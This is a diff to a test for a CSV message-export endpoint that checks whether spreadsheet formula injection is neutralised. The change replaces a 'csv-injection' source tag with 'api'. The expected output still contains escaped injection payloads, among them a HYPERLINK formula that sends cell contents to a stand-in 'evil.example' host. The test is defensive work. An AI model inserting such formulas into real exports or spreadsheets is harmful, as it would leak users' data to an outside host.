@@ -46,7 +46,8 @@ describe.each(BACKENDS)('GET /api/v1/export/messages.csv (%s)', (backend) => {
       payload: [
         {
           id: 'formula-1',
-          source: 'csv-injection',
+          // The shared ingest token writes its own source only (HEATMAP_INGEST_SOURCE, default api).
+          source: 'api',
           createdAt: '2024-06-01T10:00:00Z',
           category: '-Egyéb',
           lat: 47.5,
@@ -59,10 +60,11 @@ describe.each(BACKENDS)('GET /api/v1/export/messages.csv (%s)', (backend) => {
       ],
     });
     expect(ingest.statusCode, ingest.body).toBe(200);
-    const response = await app.inject({ url: '/api/v1/export/messages.csv?source=csv-injection' });
+    expect(ingest.json().inserted, ingest.body).toBe(1);
+    const response = await app.inject({ url: '/api/v1/export/messages.csv?source=api' });
     expect(response.statusCode).toBe(200);
     const lines = response.body.replace(/^\uFEFF/, '').split('\r\n');
-    expect(lines[1]).toContain(`,"'-Egyéb",csv-injection,`);
+    expect(lines[1]).toContain(`,"'-Egyéb",api,`);
     expect(lines[1]).toContain(
       `,"'@SUM(1+1)","'=1+1","'=HYPERLINK(""http://evil.example/?""&A1,""Kattints"")",`,
     );
